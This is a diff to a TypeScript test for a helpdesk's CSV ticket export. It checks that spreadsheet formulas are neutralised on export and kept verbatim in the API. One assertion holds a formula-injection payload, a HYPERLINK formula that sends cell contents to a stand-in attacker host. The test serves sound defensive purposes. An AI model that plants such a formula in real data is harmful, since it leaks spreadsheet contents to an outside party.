@@ -3,19 +3,24 @@
 import fs from "node:fs";
 import { parse } from "csv-parse/sync";
 import { and, eq, inArray, sql } from "drizzle-orm";
-import { simpleParser } from "mailparser";
 import { beforeAll, describe, expect, it } from "vitest";
 import { createTestDb } from "@/db/testing";
+import { POST as ticketsJson } from "@/app/api/tickets.json/route";
+import { createApiKey } from "@/lib/api-keys";
+import { updateSettings } from "@/lib/config/settings";
+import { pipeToDatabase } from "@/lib/inbound";
 import { departments, tickets, users } from "@/db/schema";
 import type { TicketDetail } from "@/lib/tickets";
 import { setupTestAuth, staffRequest } from "@/test/auth";
-import { createUser } from "@/test/factories";
+import { setApiEnv } from "@/test/intake-env";
+import { apiRequest } from "@/test/intake-http";
 import { api } from "@/test/staff-api";
 import { type Cast, createStaff, seedStaffCast } from "@/test/staff-factory";
 import { addAttachment, addEntry, createTicket } from "@/test/ticket-factory";
 import { GET as getTicket } from "../[tid]/route";
 import { GET } from "./route";
 
+setApiEnv();
 setupTestAuth();
 const { db } = await createTestDb();
 let cast: Cast;
@@ -112,23 +117,23 @@ describe("GET /tickets/export", () => {
   });
 });
 
-// Case 16 (test/fixtures/cases/16-csv-formula-injection). The tickets are inserted with the
-// request and mail values byte for byte; this product has no tags (expected.md skips them).
+// Case 16 (test/fixtures/cases/16-csv-formula-injection): the three API requests go through
+// POST /api/tickets.json byte for byte and the mail through the inbound pipe; this product has
+// no tags (the API lists them as a warning and expected.md skips them).
 describe("case 16: CSV export neutralises spreadsheet formulas", () => {
   const dir = "test/fixtures/cases/16-csv-formula-injection";
   it("writes the expected raw fields and keeps the original text in the API", async () => {
     const admin2 = await createStaff(db, { role: "admin", name: "Case Admin" });
     const dept = (await db.insert(departments).values({ name: "Case 16" }).returning())[0];
+    await updateSettings(db, { defaultDeptId: dept.id });
+    const { key } = await createApiKey(db, { name: "case 16" });
     const made: number[] = [];
     for (const f of ["request-1.json", "request-2.json", "request-3.json"]) {
-      const r = JSON.parse(fs.readFileSync(`${dir}/${f}`, "utf8"));
-      const u = await createUser(db, r.email, r.name);
-      made.push((await createTicket(db, { deptId: dept.id, userId: u.id, subject: r.subject, message: r.message })).id);
+      const res = await ticketsJson(apiRequest("/api/tickets.json", fs.readFileSync(`${dir}/${f}`), { key, accept: "application/json", contentType: "application/json" }));
+      expect(res.status).toBe(201);
+      made.push((await res.json()).data.tid);
     }
-    const mail = await simpleParser(fs.readFileSync(`${dir}/input-email.eml`));
-    const from = mail.from!.value[0];
-    const u = await createUser(db, from.address!, from.name);
-    made.push((await createTicket(db, { deptId: dept.id, userId: u.id, subject: mail.subject!, message: mail.text! })).id);
+    expect((await pipeToDatabase(db, fs.readFileSync(`${dir}/input-email.eml`))).code).toBe(0);
 
     const { text, records } = await exportCsv(admin2, `?deptId=${dept.id}`);
     expect(records).toHaveLength(4);
@@ -147,5 +152,6 @@ describe("case 16: CSV export neutralises spreadsheet formulas", () => {
     const view = await api(admin2).get<TicketDetail>(getTicket, `/api/staff/tickets/${made[0]}`, { tid: String(made[0]) });
     expect(view.json.data!.subject).toBe('=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")');
     expect(view.json.data!.user.name).toBe("+1 555 0100 Ops");
+    await updateSettings(db, { defaultDeptId: cast.support.id });
   });
 });
